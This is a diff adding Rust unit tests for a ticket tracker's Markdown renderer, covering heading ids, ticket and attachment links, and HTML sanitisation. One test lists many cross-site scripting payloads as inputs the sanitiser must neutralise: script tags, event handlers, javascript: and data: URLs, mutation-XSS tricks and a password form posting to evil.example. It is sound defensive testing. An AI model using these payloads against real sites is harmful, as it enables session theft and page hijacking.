@@ -1,0 +1,303 @@
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+use super::*;
+
+fn words() -> MarkdownWords {
+    let word = str::to_owned;
+    MarkdownWords {
+        note: word("Note"),
+        tip: word("Tip"),
+        important: word("Important"),
+        warning: word("Warning"),
+        caution: word("Caution"),
+        done: word("done"),
+        to_do: word("to do"),
+        table: word("Table"),
+    }
+}
+
+/// A store with one ticket and two attachments.
+struct Here;
+
+impl Resolve for Here {
+    fn name(&self, name: &str, _: bool) -> Option<Target> {
+        (name == "export-times-out-k7f3qa" || name == "FLUID-115").then(|| Target::Page {
+            href: "../export-times-out-k7f3qa/".to_owned(),
+            title: "Export \"times\" out".to_owned(),
+        })
+    }
+
+    fn relative(&self, destination: &str) -> Option<Target> {
+        match destination.strip_prefix("x-k7f3qa/").unwrap_or(destination) {
+            name @ ("trace.log" | "screen shot.png") => Some(Target::Attachment {
+                href: name.replace(' ', "%20"),
+                name: name.to_owned(),
+                image: name.ends_with("png"),
+            }),
+            _ => None,
+        }
+    }
+}
+
+fn html(markdown: &str) -> String {
+    full(markdown).html
+}
+
+fn full(markdown: &str) -> Rendered {
+    render(markdown, &Style { key: "", heading_shift: 1, words: &words(), resolve: &Here })
+}
+
+#[track_caller]
+fn shows(markdown: &str, expected: &str) {
+    assert_eq!(html(markdown).trim(), expected);
+}
+
+/// Checks every element and attribute outside of text, roughly as a browser would see them.
+#[track_caller]
+fn is_harmless(markdown: &str) {
+    static TAG: LazyLock<Regex> =
+        LazyLock::new(|| Regex::new(r#"<\s*([a-zA-Z!?/][^>\s/]*)((?:[^<>"']|"[^"]*"|'[^']*')*)>"#).unwrap());
+    static QUOTED: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#""[^"]*""#).unwrap());
+    static ACTIVE: LazyLock<Regex> =
+        LazyLock::new(|| Regex::new(r"\bon\w+\s*=|\bstyle\s*=|srcdoc|formaction").unwrap());
+    static ADDRESS: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#"(?:href|src)="([^"]*)""#).unwrap());
+    let html = html(markdown);
+    for found in TAG.captures_iter(&html) {
+        let name = found[1].trim_start_matches('/').to_ascii_lowercase();
+        assert!(raw::allowed(&name), "<{name}> in {html}");
+        let attributes = found[2].to_ascii_lowercase();
+        assert!(!ACTIVE.is_match(&QUOTED.replace_all(&attributes, "\"\"")), "{html}");
+        for value in ADDRESS.captures_iter(&attributes) {
+            let outside = ["http://", "https://", "mailto:", "#user-content-"];
+            let inside = ["trace.log", "screen%20shot.png", "../export-times-out-k7f3qa/"];
+            let value = &value[1];
+            assert!(
+                outside.iter().any(|start| value.starts_with(start)) || inside.contains(&value),
+                "{value} in {html}"
+            );
+        }
+        if name == "img" {
+            assert!(
+                attributes.contains("src=\"screen%20shot.png\"") || !attributes.contains("src="),
+                "{html}"
+            );
+        }
+    }
+}
+
+#[test]
+fn headings_move_below_those_of_the_page_and_can_be_linked() {
+    shows("## Steps to reproduce", "<h3 id=\"user-content-steps-to-reproduce\">Steps to reproduce</h3>");
+    shows("## 问题", "<h3 id=\"user-content-问题\">问题</h3>");
+    shows("# A\n# A", "<h2 id=\"user-content-a\">A</h2>\n<h2 id=\"user-content-a-2\">A</h2>");
+}
+
+#[test]
+fn ids_cannot_take_the_place_of_those_of_the_page() {
+    assert!(!html("<p id=\"answer\">x</p>\n\n## answer").contains("id=\"answer\""));
+}
+
+#[test]
+fn a_ticket_that_is_named_is_linked() {
+    shows(
+        "See #export-times-out-k7f3qa, or export-times-out-k7f3qa.",
+        "<p>See <a href=\"../export-times-out-k7f3qa/\" title=\"Export &quot;times&quot; out\">#export-times-out-k7f3qa</a>, \
+         or <a href=\"../export-times-out-k7f3qa/\" title=\"Export &quot;times&quot; out\">export-times-out-k7f3qa</a>.</p>",
+    );
+    assert!(html("见FLUID-115。").contains("<a href"), "no space before a name is needed after Chinese");
+}
+
+#[test]
+fn a_name_inside_code_a_path_or_a_longer_word_is_not_a_ticket() {
+    for text in [
+        "`export-times-out-k7f3qa`",
+        "    export-times-out-k7f3qa",
+        "a/export-times-out-k7f3qa/b",
+        "export-times-out-k7f3qa.md",
+        "my-export-times-out-k7f3qa",
+        "export-times-out-k7f3qa_2",
+    ] {
+        assert!(!html(text).contains("<a "), "{text}: {}", html(text));
+    }
+}
+
+#[test]
+fn a_bare_address_becomes_a_link_without_the_full_stop_behind_it() {
+    shows(
+        "See https://a.example/x_(y)?a=1&b=2.",
+        "<p>See <a href=\"https://a.example/x_(y)?a=1&amp;b=2\" rel=\"nofollow ugc noopener\">\
+         https://a.example/x_(y)?a=1&amp;b=2</a>.</p>",
+    );
+    assert!(html("(https://a.example/)").contains("href=\"https://a.example/\""));
+    assert!(html("见https://a.example/c。谢谢").contains("href=\"https://a.example/c\""));
+    assert!(!html("[https://a.example](https://b.example)").contains("href=\"https://a.example"));
+}
+
+#[test]
+fn a_link_to_an_attachment_leads_to_the_tickets_folder_and_is_counted() {
+    let rendered = full("[log](x-k7f3qa/trace.log), [again](trace.log), ![shot](screen%20shot.png)");
+    assert_eq!(rendered.attachments, ["screen%20shot.png", "trace.log"]);
+    assert_eq!(
+        rendered.html.trim(),
+        "<p><a href=\"trace.log\" download=\"trace.log\">log</a>, <a href=\"trace.log\" download=\"trace.log\">again</a>, \
+         <a href=\"screen%20shot.png\"><img src=\"screen%20shot.png\" alt=\"shot\" loading=\"lazy\"></a></p>"
+    );
+}
+
+#[test]
+fn a_link_that_leads_nowhere_is_text() {
+    shows("[runbook](../../runbook.md) [top](/etc/passwd) [x](?q=1)", "<p>runbook top x</p>");
+}
+
+#[test]
+fn a_picture_of_another_site_is_a_link_to_it() {
+    shows(
+        "![diagram](https://tracker.example/pixel.gif)",
+        "<p><a href=\"https://tracker.example/pixel.gif\" rel=\"nofollow ugc noopener\">diagram</a></p>",
+    );
+    let raw = html("<img width=300 src=\"https://tracker.example/pixel.gif\" alt='shot'>");
+    assert!(!raw.contains("<img") && raw.contains("href=\"https://tracker.example/pixel.gif\""), "{raw}");
+}
+
+#[test]
+fn hints_are_not_for_readers_and_placeholders_are() {
+    shows("<!-- What happened? -->\nIt broke.", "<p>It broke.</p>");
+    shows("a Vec<String> of <your-name>", "<p>a Vec&lt;String&gt; of &lt;your-name&gt;</p>");
+    assert!(html("<config>\n<retries>3</retries>\n</config>").contains("&lt;retries&gt;3"));
+}
+
+#[test]
+fn tables_tasks_alerts_and_footnotes_need_no_inline_styles() {
+    let html = html(
+        "|a|b|\n|:-:|--:|\n|1|2|\n\n- [x] one\n- [ ] two\n\n> [!WARNING]\n> hot\n\nnote[^1] ~~gone~~\n\n[^1]: foot",
+    );
+    assert!(
+        html.contains("<th scope=\"col\" class=\"center\">a</th>")
+            && html.contains("<td class=\"right\">2</td>")
+    );
+    assert!(html.contains("aria-label=\"done\">☑</span>") && html.contains("aria-label=\"to do\">☐</span>"));
+    assert!(html.contains("<blockquote class=\"alert alert-warning\"><p class=\"alert-title\">Warning</p>"));
+    assert!(html.contains("href=\"#user-content-note-1\"") && html.contains("id=\"user-content-note-1\""));
+    assert!(html.contains("<del>gone</del>"));
+    assert!(!html.contains("style=") && !html.contains("<input"), "{html}");
+}
+
+#[test]
+fn code_is_shown_as_it_is() {
+    shows(
+        "```sh\necho '<b>' # https://a.example\n```",
+        "<pre tabindex=\"0\" data-language=\"sh\"><code>echo '&lt;b&gt;' # https://a.example\n</code></pre>",
+    );
+    shows("```\"><script>\nx\n```", "<pre tabindex=\"0\" data-language=\"script\"><code>x\n</code></pre>");
+}
+
+#[test]
+fn raw_html_keeps_what_is_useful() {
+    let html = html(
+        "<details open><summary>Log</summary>\n\n```\nx\n```\n\n[log](trace.log)\n\n</details>\n\nPress <kbd>q</kbd>",
+    );
+    assert!(html.contains("<details open=\"\"><summary>Log</summary>"), "{html}");
+    assert!(html.contains("<kbd>q</kbd>") && html.contains("<pre tabindex=\"0\"><code>x"), "{html}");
+    assert!(html.contains("href=\"trace.log\""), "{html}");
+}
+
+#[test]
+fn hostile_text_is_harmless() {
+    for text in [
+        "<script>alert(1)</script>",
+        "x <script src=//evil.example></script> y",
+        "<img src=x onerror=alert(1)>",
+        "<img src=\"screen%20shot.png\" onerror=alert(1)>",
+        "<img/src=\"screen%20shot.png\"/onerror=alert(1)>",
+        "[x](javascript:alert(1))",
+        "[x](JaVaScRiPt:alert(1))",
+        "[x](java&#10;script:alert(1))",
+        "[x](<java\tscript:alert(1)>)",
+        "[x](&#1;javascript:alert(1))",
+        "[x](vbscript:msgbox(1))",
+        "[x](data:text/html;base64,PHNjcmlwdD4=)",
+        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+        "<javascript:alert(1)>",
+        "<data:text/html,hi>",
+        "[x]: javascript:alert(1)\n\n[x]",
+        "[x](file:///etc/passwd)",
+        "[x](//evil.example/x)",
+        "[x](\\\\evil.example\\x)",
+        "[x](https:/evil.example)",
+        "<a href=\"java&#10;script:alert(1)\">x</a>",
+        "<a href='java\nscript:alert(1)'>x</a>",
+        "<a href=\"#answer\" onclick=alert(1)>x</a>",
+        "<a href=/admin>x</a>",
+        "<a href=\"https://ok.example\" style=\"position:fixed;inset:0\" target=_top>x</a>",
+        "<svg><script>alert(1)</script></svg>",
+        "<svg onload=alert(1)>",
+        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
+        "<style>body{display:none}</style>",
+        "<style>\n\n<img src=x onerror=alert(1)>\n\n</style>",
+        "<iframe src=\"https://evil.example\"></iframe>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "<object data=x></object><embed src=x>",
+        "<form action=\"https://evil.example\"><input name=password></form>",
+        "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example\">",
+        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+        "<details ontoggle=alert(1) open>x</details>",
+        "<div class=\"banner\" id=\"answer\">x</div>",
+        "</main></body></html><script>alert(1)</script>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+        "<!--><img src=x onerror=alert(1)>-->",
+        "<!-- > --><script>alert(1)</script>",
+        "`<script>`<script>alert(1)</script>",
+        "<a title='\"><script>alert(1)</script>' href=https://ok.example>x</a>",
+        "[a](https://ok.example \"\\\"><script>alert(1)</script>\")",
+        "![\"><script>alert(1)</script>](screen%20shot.png)",
+        "# <script>alert(1)</script>",
+        "# x\" onmouseover=\"alert(1)",
+        "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
+        "[^\"><script>alert(1)</script>]: x",
+        "https://ok.example/\"onmouseover=\"alert(1)",
+        "https://ok.example/'><script>alert(1)</script>",
+        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)>",
+        "<a href=\"screen%20shot.png\"><img src=\"https://evil.example/x.png\"></a>",
+        "<x-y onclick=alert(1)>z</x-y>",
+        "<?xml version=\"1.0\"?><!DOCTYPE html><![CDATA[<script>alert(1)</script>]]>",
+    ] {
+        is_harmless(text);
+        // The same inside a list, a quote, a table's cell and beside HTML that keeps the sanitiser busy.
+        is_harmless(&format!("- {text}\n\n> {text}"));
+        is_harmless(&format!("<div>\n\n{text}\n\n</div>"));
+        is_harmless(&format!("<b>{text}</b>"));
+    }
+}
+
+#[test]
+fn a_flood_of_raw_tags_is_shown_as_text() {
+    let flood = "<b><i>".repeat(5_000);
+    let html = html(&flood);
+    assert!(html.contains("&lt;b&gt;") && !html.contains("<b>"));
+}
+
+#[test]
+fn two_texts_on_a_page_have_different_ids() {
+    let words = words();
+    let style = |key| Style { key, heading_shift: 0, words: &words, resolve: &NoLinks };
+    assert_ne!(render("# A", &style("r1-")).html, render("# A", &style("r2-")).html);
+}
+
+#[test]
+fn an_excerpt_is_prose_cut_between_words() {
+    let text =
+        "## Problem\n<!-- hint -->\nThe *export* of `rows`\ntimes out.\n\n```\ncode\n```\n\n- one\n- two";
+    assert_eq!(excerpt(text, 200), "The export of rows times out. one two");
+    assert_eq!(excerpt(text, 18), "The export of…");
+    assert_eq!(excerpt("发票导出超时发票导出超时", 6), "发票导出超时…");
+    assert_eq!(excerpt("```\nonly code\n```", 80), "");
+}
+
+#[test]
+fn plain_text_keeps_code_and_headings() {
+    assert_eq!(plain_text("## Fix\nRun `x`:\n\n```\nmake\n```\n<b>now</b>"), "Fix\nRun x:\nmake\nnow");
+}
